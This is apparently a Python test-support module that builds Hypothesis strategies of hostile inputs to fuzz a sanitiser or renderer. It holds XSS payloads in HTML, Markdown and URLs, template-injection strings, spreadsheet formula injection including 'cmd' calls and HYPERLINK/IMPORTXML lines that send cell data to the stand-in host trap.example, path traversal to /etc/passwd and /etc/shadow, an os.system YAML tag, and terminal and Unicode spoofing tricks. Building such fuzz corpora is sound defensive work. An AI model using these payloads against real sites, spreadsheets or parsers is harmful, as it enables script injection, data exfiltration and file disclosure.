"""Words that attack: each calls `pwned` or fetches from TRAP when anything takes it for more than words. All are ours.

`{x}` stands for what the attack does.
"""

from hypothesis import strategies as st

TRAP = "trap.example"
"""No page may ask this host for anything."""

CALL = "pwned(1)"

MARKUP = (
    "<script>{x}</script>",
    "<ScRiPt >{x}</sCrIpT >",
    "<script/src=//{t}/a.js></script>",
    "</script><script>{x}</script>",
    "</title><script>{x}</script>",
    "</textarea><img src=x onerror={x}>",
    "</style><svg onload={x}>",
    "<img src=x onerror={x}>",
    "<img/src='x'/onerror={x}>",
    "<svg/onload={x}>",
    "<svg><animate onbegin={x} attributeName=x dur=1s>",
    "<svg><use href='//{t}/a.svg#x'></svg>",
    "<math><a xlink:href=javascript:{x}>a",
    "<iframe src=//{t}/></iframe>",
    "<iframe srcdoc='<script>parent.{x}</script>'></iframe>",
    "<object data=//{t}/a></object>",
    "<embed src=//{t}/a>",
    "<video src=//{t}/a autoplay onerror={x}></video>",
    "<audio src=x onerror={x}>",
    "<base href=//{t}/>",
    "<link rel=stylesheet href=//{t}/a.css>",
    "<link rel=preload as=image href=//{t}/a.png>",
    "<meta http-equiv=refresh content='0;url=//{t}/'>",
    "<style>@import '//{t}/a.css';*{{background:url(//{t}/b)}}</style>",
    "<div style='background:url(//{t}/a)'>",
    "<p onmouseover={x}>over",
    "<form action=//{t}/><input name=q><button formaction=javascript:{x}>go</button></form>",
    "<a href=javascript:{x}>a link</a>",
    "<a href='java&#9;script:{x}'>a link</a>",
    "<a href='&#x6a;avascript:{x}'>a link</a>",
    "<a href=data:text/html,<script>{x}</script>>a link</a>",
    "<a href='vbscript:{x}'>a link</a>",
    "<img src=//{t}/pixel.gif width=1 height=1>",
    "<img srcset='//{t}/a 2x' src=x>",
    "<body onload={x}>",
    "<details open ontoggle={x}>d",
    "<input autofocus onfocus={x}>",
    "<!--><img src=x onerror={x}>-->",
    "<![CDATA[<script>{x}</script>]]>",
    "<?xml-stylesheet href='javascript:{x}'?>",
    "<noscript><p title='</noscript><img src=x onerror={x}>'>",
    "<template><script>{x}</script></template>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={x}&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror={x}>'>",
    "<a ping=//{t}/ href=x>p</a>",
    "<portal src=//{t}/>",
    '<script type=application/ld+json>{{"@id":"javascript:{x}"}}</script>',
    '"><script>{x}</script>',
    "'><img src=x onerror={x}>",
    '" onmouseover="{x}',
    "' autofocus onfocus='{x}",
    "`-alert(1)-`",
    "<\0script>{x}</script>",
    "<scr\u00adipt>{x}</scr\u00adipt>",
    "＜script＞{x}＜/script＞",
    "&lt;script&gt;{x}&lt;/script&gt;",
    "&#60;script&#62;{x}&#60;/script&#62;",
    "<img src=x onerror\u000b={x}>",
    "<svg><script href=data:,{x} />",
    "<x onclick={x} tabindex=1 id=x>x</x>",
    "<marquee onstart={x}>m</marquee>",
    "<button popovertarget=x onbeforetoggle={x}>",
    "<frameset onload={x}>",
    "<keygen autofocus onfocus={x}>",
    "<isindex type=image src=1 onerror={x}>",
)
MARKDOWN = (
    "[a link](javascript:{x})",
    "[a link](JaVaScRiPt&colon;{x})",
    "[a link](data:text/html;base64,PHNjcmlwdD4=)",
    "![pixel](https://{t}/p.gif)",
    '![x](x "onerror={x}")',
    "[a](<javascript:{x}>)",
    "<javascript:{x}>",
    "[x]: javascript:{x}\n\n[x]",
    "[a link](//{t}/ 'x\" onclick=\"{x}')",
    "```html\n<script>{x}</script>\n```",
    "| a | <img src=x onerror={x}> |\n|---|---|\n| b | c |",
    "# <svg onload={x}>",
    "> <iframe src=//{t}/>",
    "word[^1]\n\n[^1]: <script>{x}</script>",
    '![](media/0123456789abcdef-1x1.jpg" onerror="{x})',
    "***[a](javascript:{x})***",
    '<a href="https://gazette.example" onclick="{x}">raw</a>',
    "![a](data:image/svg+xml,<svg onload={x}>)",
    "&#106;avascript:{x}",
)
TEMPLATES = (
    "{{{{ 7*7 }}}}{x}",
    "{{% include '/etc/passwd' %}}",
    "${{{x}}}",
    "#{{{x}}}",
    "<%= {x} %>",
    "{{static}}/../../etc/passwd",
    "%s%n%x",
    "{{0.__class__}}",
)
SHEETS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://{t}/?"&A1)',
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("//{t}/",A1),"//a")',
    "＝1+1",
    ";=1+1",
    '";=1+1',
)
TERMINAL = (
    "\x1b[2J\x1b[Hgone",
    "\x1b]0;title\x07",
    "\x9b31mred",
    "\x1b]8;;https://{t}/\x1b\\link\x1b]8;;\x1b\\",
    "a\rb",
    "\x08\x08\x08over",
    "\x1b[?1049h",
)
TRICKS = (
    "\u202egnp.exe\u202c",
    "\u2066\u2067x\u2069",
    "\u202dabc",
    "p\u0430ypal",
    "\ufeffword",
    "z\u200bero\u200cw\u2060idth",
    "a\u0300\u0301\u0302" * 20,
    "\U000e0041\U000e0042",
    "\ud83d",
    "\u2028line\u2029",
    "\uffff",
    "\x00nul",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "İıſK",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    "C:\\con",
    "aux.txt",
    "a/../../b",
    "%2e%2e%2f",
    "\0.html",
    "~root",
    "-rf",
    "index.html",
    "a" * 300,
)
YAML = (
    "!!python/object/apply:os.system ['x']",
    "&a [*a]",
    "*x",
    "- - - - -",
    "---",
    "...",
    "key: value: more",
    "'",
    '"',
    "%YAML 9.9",
    "? : !",
    "<<: *x",
    "0x1F",
    "null",
    "2016-13-45",
    "|\n  x",
    "#comment",
)
EVERY = MARKUP + MARKDOWN + TEMPLATES + SHEETS + TERMINAL + TRICKS + PATHS + YAML

ADDRESSES = (
    "javascript:{x}",
    "java\tscript:{x}",
    " javascript:{x}",
    "JAVASCRIPT:{x}",
    "data:text/html,<script>{x}</script>",
    "vbscript:{x}",
    "file:///etc/passwd",
    "//{t}/a",
    'https://{t}/a"onclick="{x}',
    "https://{t}/'><script>{x}</script>",
    "https://user:pass@{t}/",
    "https://g\u0430zette.example/",
    "http://[::1",
    "https://{t}/\u202ea",
    "blob:https://{t}/a",
    "about:blank",
    '#" onclick={x}',
    "https://{t}:99999/",
    "mailto:a@b?body=<script>{x}</script>",
    "https://{t}/" + "a" * 3000,
    "javascript://{t}/%0a{x}",
    "view-source:javascript:{x}",
    "ht\ntps://{t}/",
)


def _filled(template: str) -> str:
    try:
        return template.format(x=CALL, t=TRAP)
    except (KeyError, IndexError, ValueError, AttributeError):
        return template


attacks = st.sampled_from([_filled(one) for one in EVERY])
addresses = st.sampled_from([_filled(one) for one in ADDRESSES])
"""Where a link or an image may say that it leads."""

mutated = st.builds(
    lambda one, at, put: one[:at] + put + one[at:],
    attacks,
    st.integers(0, 30),
    st.sampled_from(["\0", "/", "\n", "\t", "<", '"', "'", "&", "\u00ad", "\u202e", "\x1b[1m", "\\", "`", "--", "]]>", ";"]),
)
hostile = st.one_of(attacks, attacks, mutated, st.text(max_size=30))
"""An attack, whole or with something in it that a filter may stumble over; or any characters at all."""
